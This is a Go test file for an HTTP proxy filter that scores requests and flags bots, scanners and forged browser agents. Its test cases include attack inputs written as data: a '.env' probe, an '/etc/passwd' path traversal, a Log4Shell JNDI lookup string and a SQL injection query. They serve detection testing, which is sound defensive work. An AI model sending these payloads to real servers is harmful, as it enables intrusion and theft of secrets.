package proxyhook_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"runtime/debug"
	"strings"
	"testing"
	"time"

	"github.com/headgate/headgate/featurestore/pipeline"
	"github.com/headgate/headgate/featurestore/traffic"
	"github.com/headgate/headgate/heuristics"
	"github.com/headgate/headgate/models"
	"github.com/headgate/headgate/proxyhook"
	"github.com/headgate/headgate/scorer"
)

// all looks for all findings, unlike newFilter's default.
var all = []string{}

const person = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36"

// decideOn has the filter decide on one request, and returns the decision and what the origin
// received.
func decideOn(t *testing.T, f *proxyhook.Filter, target string, header ...string) (d proxyhook.Decision, told http.Header) {
	t.Helper()
	r := httptest.NewRequest("GET", "/", nil)
	r.RequestURI = target
	r.Header.Set("User-Agent", person)
	for i := 0; i < len(header); i += 2 {
		r.Header.Set(header[i], header[i+1])
	}
	f.Handler(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		d, _ = proxyhook.FromContext(r.Context())
		told = r.Header
	})).ServeHTTP(httptest.NewRecorder(), r)
	return d, told
}

// What is certain bounds the score without a daemon, and the origin, the counts and the decision
// name it.
func TestFindingsOfAFilter(t *testing.T) {
	f := newFilter(t, proxyhook.Config{Dir: t.TempDir(), HeuristicsOff: all})
	for name, c := range map[string]struct {
		target string
		header []string
		want   heuristics.Finding
	}{
		"a path":         {"/.env", nil, heuristics.FindingDamningPath},
		"a query":        {"/?f=../../../etc/passwd", nil, heuristics.FindingInjection},
		"a field":        {"/", []string{"X-Api-Version", "${jndi:ldap://192.0.2.1/a}"}, heuristics.FindingInjection},
		"a tool":         {"/", []string{"User-Agent", "curl/8.5.0"}, heuristics.FindingDeclaredTool},
		"a crawler":      {"/", []string{"User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"}, heuristics.FindingDeclaredCrawler},
		"no agent":       {"/", []string{"User-Agent", ""}, heuristics.FindingNoAgent},
		"a person":       {"/index.php?utm_source=x", nil, heuristics.FindingUnknownClient},
		"a page's fetch": {"/api/x", []string{"Sec-Fetch-Mode", "cors", "Sec-Fetch-Site", "same-origin", "Sec-Fetch-Dest", "empty", "Referer", "http://example.com/"}, heuristics.FindingFirstFetch},
	} {
		before := f.Stats().Findings[c.want]
		d, told := decideOn(t, f, c.target, c.header...)
		flagged := d.Score < proxyhook.DefaultFlagBelow && d.Action == proxyhook.Tag
		undecided := c.want == heuristics.FindingUnknownClient || c.want == heuristics.FindingFirstFetch
		if d.Finding != c.want || d.Score == 0 || flagged == undecided || undecided && (d.Score < 40 || d.Score > 60) {
			t.Errorf("%s: %+v, want %v", name, d, c.want)
		}
		if got := told.Get(proxyhook.FindingHeader); got != c.want.String() {
			t.Errorf("%s: the origin is told %q", name, got)
		}
		if n := f.Stats().Findings[c.want] - before; n != 1 {
			t.Errorf("%s was counted %d times", name, n)
		}
	}
	total := uint64(0)
	for _, n := range f.Stats().Findings {
		total += n
	}
	if s := f.Stats(); total != s.Decisions {
		t.Errorf("%v findings for %d decisions", s.Findings, s.Decisions)
	}
}

// A client cannot name its own finding.
func TestFindingOfTheClientsOwnIsDropped(t *testing.T) {
	f := newFilter(t, proxyhook.Config{Dir: t.TempDir()})
	if _, told := decideOn(t, f, "/", proxyhook.FindingHeader, "none"); told.Get(proxyhook.FindingHeader) != "" {
		t.Error(told)
	}
}

func TestHeuristicsOff(t *testing.T) {
	f := newFilter(t, proxyhook.Config{Dir: t.TempDir(), HeuristicsOff: []string{"damning_path", "unknown_client"}})
	if d, _ := decideOn(t, f, "/.env"); d.Finding != heuristics.NoFinding {
		t.Errorf("%+v", d)
	}
	if d, _ := decideOn(t, f, "/.env", "User-Agent", "curl/8"); d.Finding != heuristics.FindingDeclaredTool {
		t.Errorf("%+v", d)
	}
	if _, err := proxyhook.New(proxyhook.Config{Dir: t.TempDir(), HeuristicsOff: []string{"damning"}}); err == nil || !strings.Contains(err.Error(), "damning_path") {
		t.Errorf("%v: it should say which names there are", err)
	}
}

// A client with published history is the model's, and one without is not.
func TestHistoryEndsWhatIsUnknown(t *testing.T) {
	unsupervised(t)
	h := newHost(t)
	f := h.filter(proxyhook.Config{HeuristicsOff: all})
	now := time.Now()
	known := traffic.Event{Time: now.UnixNano(), Method: "GET", Path: "/", Host: "x", UserAgent: person}
	stranger := known
	known.Client[15], stranger.Client[15] = 1, 2
	h.publish(now, known, known, known)
	proxyhook.Maintain(f)
	if d := f.Decide(&known); d.Finding != heuristics.NoFinding {
		t.Errorf("known: %+v", d)
	}
	if d := f.Decide(&stranger); d.Finding != heuristics.FindingUnknownClient || d.Score < 40 || d.Score > 60 {
		t.Errorf("a stranger: %+v", d)
	}
}

// Heuristics allocate nothing either, also for a client that sends another user agent and another
// attack with each request.
func TestHeuristicsAllocateNothing(t *testing.T) {
	if raceEnabled {
		t.Skip("sync.Pool drops items at random under the race detector; run go test without -race")
	}
	unsupervised(t)
	defer debug.SetGCPercent(debug.SetGCPercent(-1)) // a collection empties the pool
	f := newFilter(t, proxyhook.Config{Dir: t.TempDir(), HeuristicsOff: all})
	events := make([]traffic.Event, 2001)
	for i := range events {
		events[i] = traffic.Event{Method: "GET", Host: "x", Path: fmt.Sprintf("/%%2e%%2e/%d/index.php", i), UserAgent: fmt.Sprint(person, i)}
	}
	next := 0
	if n := testing.AllocsPerRun(len(events)-1, func() {
		f.Decide(&events[next])
		next++
	}); n != 0 {
		t.Errorf("%v allocations", n)
	}
}

// Live and in a replay the same is found, and scored, for a client's first request.
func TestFindingsLiveAndInAReplay(t *testing.T) {
	f, err := proxyhook.New(proxyhook.Config{Dir: t.TempDir()})
	must(t, err)
	defer f.Close()
	model, err := scorer.Load(models.Default())
	must(t, err)
	for i, target := range []string{"/", "/.env", "/?id=1%27%20or%201=1--", "/a.php?utm_source=b", "/%2e%2e/x", "/api/${jndi:x}"} {
		for _, agent := range []string{person, "curl/8", "", "${jndi:x}", "Googlebot/2.1"} {
			referer := []string{"-", "https://www.example.org/"}[i%2]
			line := fmt.Sprintf("192.0.2.7 - - [02/Mar/2026:10:00:00 +0000] \"GET %s HTTP/1.1\" 200 1 \"%s\" \"%s\"\n", target, referer, agent)
			source, err := pipeline.FromLog(strings.NewReader(line))
			must(t, err)
			var record pipeline.Record
			must(t, source.Next(&record))
			p, err := pipeline.New(pipeline.Config{Model: model, Features: []string{}})
			must(t, err)
			row := p.Score(&record.Event)
			live := record.Event
			live.Score = 0
			if d := f.Decide(&live); d.Finding != row.Finding || d.Score != row.Score {
				t.Errorf("%s: live %+v, in a replay %v, %d", line, d, row.Finding, row.Score)
			}
			header := []string{"User-Agent", agent}
			if referer != "-" {
				header = append(header, "Referer", referer)
			}
			if d, _ := decideOn(t, f, target, header...); d.Finding != row.Finding {
				t.Errorf("%s: through the handler %v, in a replay %v", line, d.Finding, row.Finding)
			}
		}
	}
}

// A program under a browser's name is found by its first request over TLS, and the event that the
// daemon gets tells the same, which is what a replay has. A request that says that it was passed
// on, and one in the clear, have no connection to go by.
func TestForgedAgentsLive(t *testing.T) {
	const chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Safari/537.36"
	for name, c := range map[string]struct {
		secure  bool
		version int
		agent   string
		via     string
		want    heuristics.Finding
	}{
		"HTTP/2":       {true, 2, chrome, "", heuristics.FindingForgedAgent},
		"HTTP/1.1":     {true, 1, chrome, "", heuristics.FindingForgedAgent},
		"an app":       {true, 2, "Example/7.1 CFNetwork/1399 Darwin/22.1.0", "", heuristics.FindingUnknownClient},
		"passed on":    {true, 2, chrome, "1.1 proxy", heuristics.FindingUnknownClient},
		"in the clear": {false, 1, chrome, "", heuristics.FindingUnknownClient},
	} {
		found := make(chan heuristics.Finding, 1)
		s := serveWire(t, proxyhook.Config{HeuristicsOff: all}, c.secure, http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
			d, _ := proxyhook.FromContext(r.Context())
			found <- d.Finding
		}), unchanged)
		transport := s.transport(c.version)
		request, err := http.NewRequest("GET", s.url, nil)
		must(t, err)
		request.Header.Set("User-Agent", c.agent)
		if c.via != "" {
			request.Header.Set("Via", c.via)
		}
		response, err := (&http.Client{Transport: transport}).Do(request)
		must(t, err)
		response.Body.Close()
		transport.CloseIdleConnections()
		if got := <-found; got != c.want {
			t.Errorf("%s: %v, want %v", name, got, c.want)
		}
		ev, nothing := ended(t, s.host, s.filter, 1)[0], heuristics.NoHistory()
		if got := (heuristics.Rules{}).WithHistory(heuristics.Rules{}.Request(&ev), &ev, &nothing); got != c.want {
			t.Errorf("%s: of the event that was reported %v, want %v", name, got, c.want)
		}
	}
}
